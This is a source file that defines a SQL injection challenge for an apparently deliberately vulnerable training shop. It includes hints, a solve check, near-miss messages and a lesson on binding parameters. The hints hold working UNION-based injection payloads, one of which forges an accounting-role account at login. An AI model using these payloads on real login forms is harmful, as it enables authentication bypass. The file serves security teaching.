import type { LoggedInAccount } from '../../../facts/vocabulary.js'
import type { ShopConfig } from '../../../options.js'
import type { Store } from '../../../store/types.js'
import { challenge, on } from '../../challenge.js'
import { ephemeralAddress } from '../../rules/conditions.js'
import { injectedLogin } from '../../rules/detections.js'
import { failedAt } from '../../rules/near-misses.js'
import { dbSchemaChallenge } from './db-schema.js'
import { boundLogin, columnCount, loginPath, loginQuery } from './sql.js'

export const ephemeralAccountantChallenge = challenge({
  id: 26,
  name: 'Ephemeral Accountant',
  difficulty: 4,
  country: { name: 'Hungary', code: 'HU' },
  standards: { cwe: [89], owasp2025: ['A05'], wstg: ['INPV-05'], asvs5: ['1.2.4'] },
  topic: 'injection',
  teaches: ['union-queries'],
  after: [dbSchemaChallenge],
  mitigation: 'https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html',
  goal: 'Sign in as the accountant <code>acc0unt4nt@juice-sh.op</code>, who has never been hired, never been registered, and is not to be: the account must exist in <em>no table</em> at any time.',
  hints: [
    'Whoever the login query returns is signed in. It need not return something that is stored.',
    'A UNION adds rows to a result, and a row can be made of plain values. You need to know how many columns a user has, and in which order.',
    "The challenge Database Schema shows you the columns of Users. The row must carry the accountant's address, the role accounting, no TOTP secret, and the id of an existing user.",
    "Start small: as e-mail, ' UNION SELECT 1,2,3-- draws an error about the number of columns. Add numbers until that error is gone: there are 13. Then replace one number after the other by the value that its column needs.",
    "E-mail, with any password: ' UNION SELECT * FROM (SELECT 15 as 'id', '' as 'username', 'acc0unt4nt@juice-sh.op' as 'email', '12345' as 'password', 'accounting' as 'role', '123' as 'deluxeToken', '1.2.3.4' as 'lastLoginIp', '/assets/public/images/uploads/default.svg' as 'profileImage', '' as 'totpSecret', 1 as 'isActive', '1999-08-16 14:14:41.644 +00:00' as 'createdAt', '1999-08-16 14:33:41.930 +00:00' as 'updatedAt', null as 'deletedAt')--",
  ],
  solvedBy: on('account.loggedIn', ({ account }, { store, config }) => isEphemeralAccountant(account, store, config)),
  nearMisses: [
    {
      when: failedAt(loginPath, columnCount),
      note: 'The login understood your UNION. A row of users has a certain number of columns.',
    },
    {
      when: on(
        'account.loggedIn',
        ({ account }, { config }) => account.email === ephemeralAddress(config.application.domain),
      ),
      note: 'Somebody of that name is signed in. Mind the role, and that the account must be in no table.',
    },
  ],
  weaknesses: ['concatenated-login-query'],
  lesson: {
    ...loginQuery,
    why: 'Whatever row the statement returns is signed in, and the address can add a row made of plain values. The account existed only in the answer.',
    fix: 'Bind the address. Then take from the answer only an id, and read the account anew by it.',
    better: boundLogin,
    detect: injectedLogin,
  },
})

/** An accountant of whom the shop has no record. */
function isEphemeralAccountant({ email, role }: LoggedInAccount, store: Store, config: ShopConfig): boolean {
  const isRecorded = () =>
    store
      .table('Users')
      .live()
      .some((user) => user.email === email)
  return email === ephemeralAddress(config.application.domain) && role === 'accounting' && !isRecorded()
}
